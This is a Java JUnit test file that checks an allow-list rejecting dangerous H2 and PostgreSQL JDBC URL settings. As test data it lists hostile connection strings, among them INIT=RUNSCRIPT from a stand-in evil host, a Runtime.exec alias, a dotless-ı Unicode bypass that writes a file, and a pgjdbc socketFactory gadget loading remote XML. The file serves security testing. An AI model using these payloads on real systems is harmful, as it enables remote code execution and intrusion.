package io.learncast.farm.store;

import io.learncast.common.UserError;
import io.learncast.farm.store.jdbc.JdbcStore;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.nio.file.Files;
import java.nio.file.Path;

import static org.junit.jupiter.api.Assertions.*;

/**
 * Store URLs are checked against an allow-list: anything but learncast's own settings is refused with one
 * clear line — in any case, Unicode spelling (H2 upper-cases keys: a dotless ı turns {@code ınıt} into
 * {@code INIT}), spacing or percent-encoding (pgjdbc decodes its parameters) — while ordinary URLs pass.
 */
class StoreLocationSecurityTest {
    @TempDir Path dir;

    @ParameterizedTest
    @ValueSource(strings = {
            "jdbc:h2:tcp://127.0.0.1:9092/learncast;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
            "jdbc:h2:mem:x;init=runscript from 'x.sql'",
            "jdbc:h2:mem:x;InIt = SELECT 1",
            "jdbc:h2:mem:x;INIT%3DSELECT 1",
            "jdbc:h2:mem:x;%49NIT=SELECT 1",
            "jdbc:h2:mem:x;%2549NIT=SELECT 1",
            "jdbc:h2:mem:x;INIT=CREATE ALIAS E FOR 'java.lang.Runtime.exec'",
            "jdbc:h2:file:/tmp/x;INIT=create alias e as 'String e() { return null; }'",
            "jdbc:h2:mem:x;RUNSCRIPT FROM 'x.sql'",
            "jdbc:h2:mem:x;CREATE FORCE ALIAS e FOR 'x'",
            "jdbc:h2:mem:x;JAVA_OBJECT_SERIALIZER=com.evil.S",
            "jdbc:h2:mem:x;AUTHENTICATOR=com.evil.A",
            // Unicode case folding: what H2 upper-cases (Locale.ENGLISH) to INIT, and NFKC look-alikes
            "jdbc:h2:file:/tmp/x/a;ınıt=CALL FILE_WRITE(STRINGTOUTF8('pwned'),'/tmp/PWNED')",
            "jdbc:h2:file:/tmp/x/a;\u0131NIT=SELECT 1",
            "jdbc:h2:tcp://127.0.0.1:9092/learncast;ınıt=SELECT 1",
            "jdbc:h2:mem:x;\uFF29\uFF2E\uFF29\uFF34=SELECT 1",
            "jdbc:h2:mem:x;ſCHEMA=x",
            "jdbc:h2:mem:x;\\INIT=SELECT 1",
            "jdbc:h2:mem:x;IN\\IT=SELECT 1",
            "jdbc:h2:mem:x;MODE=PostgreSQL",
            "jdbc:h2:mem:x;LOCK_TIMEOUT=1000;LOCK_TIMEOUT=2000",
            "jdbc:h2:mem:x;AUTO_SERVER=yes",
            "jdbc:h2:file:/tmp/x;AUTO_SERVER_PORT=70000",
            "jdbc:h2:file:/tmp/x;AUTO_SERVER_PORT=9092;INIT=SELECT 1",
            "jdbc:h2:file:zip:/tmp/x.zip!/db",
            "jdbc:h2:split:/tmp/x",
            "jdbc:h2:tcp://127.0.0.1:9092/mem:x",
            "jdbc:h2:tcp://evil host/learncast",
            "jdbc:postgresql://127.0.0.1/x?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil/x.xml",
            "jdbc:postgresql://127.0.0.1/x?SOCKETFACTORY=x",
            "jdbc:postgresql://127.0.0.1/x?socket%46actory=x",
            "jdbc:postgresql://127.0.0.1/x?%73ocketFactory=x",
            "jdbc:postgresql://127.0.0.1/x?sslfactory=x",
            "jdbc:postgresql://127.0.0.1/x?sslhostnameverifier=x",
            "jdbc:postgresql://127.0.0.1/x?sslpasswordcallback=x",
            "jdbc:postgresql://127.0.0.1/x?authenticationPluginClassName=x",
            "jdbc:postgresql://127.0.0.1/x?loggerFile=/tmp/x",
            "jdbc:postgresql://127.0.0.1/x?service=evil",
            "jdbc:postgresql://127.0.0.1/x?options=-c%20log_statement=all",
            "jdbc:postgresql://127.0.0.1/x?ssl=maybe",
            "jdbc:postgresql://127.0.0.1/x?user",
            "  JDBC:H2:MEM:x;INIT=SELECT 1"})
    void urlsWithSettingsOutsideTheAllowListAreRefused(String url) {
        UserError e = assertThrows(UserError.class, () -> StoreLocation.parse(url, "--db"));
        assertEquals("--db", e.where());
        assertFalse(e.getMessage().contains("\n"), "one line: " + e.getMessage());
        assertNotNull(e.hint());
    }

    @Test
    void theMessageNamesTheSettingAsTheDriverWouldReadItAndWhatIsAllowed() {
        UserError e = assertThrows(UserError.class, () -> StoreLocation.parse("jdbc:h2:file:/tmp/x/a;ınıt=SELECT 1", "LEARNCAST_DB"));
        assertEquals("LEARNCAST_DB", e.where());
        assertTrue(e.getMessage().contains("H2 would read it as INIT"), e.getMessage());
        assertTrue(e.hint().contains("LOCK_TIMEOUT") && e.hint().contains("AUTO_SERVER"), e.hint());
        UserError pg = assertThrows(UserError.class, () -> StoreLocation.parse("jdbc:postgresql://h/x?socket%46actory=x", "--db"));
        assertTrue(pg.getMessage().contains("'socketFactory'"), pg.getMessage());
    }

    /** The attack the hostile pass found: before the allow-list, this URL wrote a file when the store opened. */
    @Test
    void aDotlessIInitRunsNothing() throws Exception {
        Path pwned = dir.resolve("PWNED");
        String url = "jdbc:h2:file:" + dir.resolve("a") + ";ınıt=CALL FILE_WRITE(STRINGTOUTF8('pwned'),'" + pwned + "')";
        assertThrows(UserError.class, () -> {
            try (Store s = JdbcStore.open(StoreLocation.parse(url, "--db"))) {
                s.catalog().count(RunFilter.all());
            }
        });
        assertFalse(Files.exists(pwned), "the INIT hidden behind a dotless ı ran");
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "jdbc:h2:tcp://127.0.0.1:9092/learncast",
            "jdbc:h2:ssl://db.example:9092/learncast;IFEXISTS=TRUE",
            "jdbc:h2:mem:ok;LOCK_TIMEOUT=1000",
            "jdbc:h2:mem:ok;lock_timeout=1000;db_close_delay=-1",
            "jdbc:postgresql://db.example:5432/learncast?user=farm&password=p%40ss%2Bword&ssl=true",
            "jdbc:postgresql://127.0.0.1/initial_runs?ApplicationName=learncast",
            "jdbc:postgresql://a.example,b.example:5433/learncast?targetServerType=primary&sslmode=verify-full&connectTimeout=10"})
    void ordinaryUrlsPass(String url) {
        assertDoesNotThrow(() -> StoreLocation.parse(url, "--db"));
    }

    @Test
    void fileUrlsWithLearncastsSettingsPass() {
        for (String settings : new String[] {";AUTO_SERVER=TRUE;AUTO_SERVER_PORT=9123", ";AUTO_SERVER=false", ";WRITE_DELAY=0", ""}) {
            StoreLocation loc = StoreLocation.parse("jdbc:h2:file:" + dir.resolve("x") + settings, "--db");
            assertEquals(StoreLocation.Kind.H2_FILE, loc.kind());
            assertEquals(dir.toAbsolutePath(), loc.folder());
        }
        assertEquals(StoreLocation.Kind.H2_FILE, StoreLocation.parse("jdbc:h2:" + dir.resolve("y"), "--db").kind());
    }

    @Test
    void theDriverGetsTheUrlAsCheckedAndPasswordsAreNotDisplayed() {
        StoreLocation h2 = StoreLocation.parse("jdbc:h2:mem:ok;lock_timeout=1000", "--db");
        assertEquals("jdbc:h2:mem:ok;LOCK_TIMEOUT=1000;DB_CLOSE_DELAY=-1", h2.jdbcUrl());
        StoreLocation pg = StoreLocation.parse("jdbc:postgresql://h:5432/x?user=farm&password=p%40ss%2Bword", "--db");
        assertEquals("jdbc:postgresql://h:5432/x?user=farm&password=p%40ss%2Bword", pg.jdbcUrl());
        assertFalse(pg.display().contains("ss%2Bword"), pg.display());
    }
}
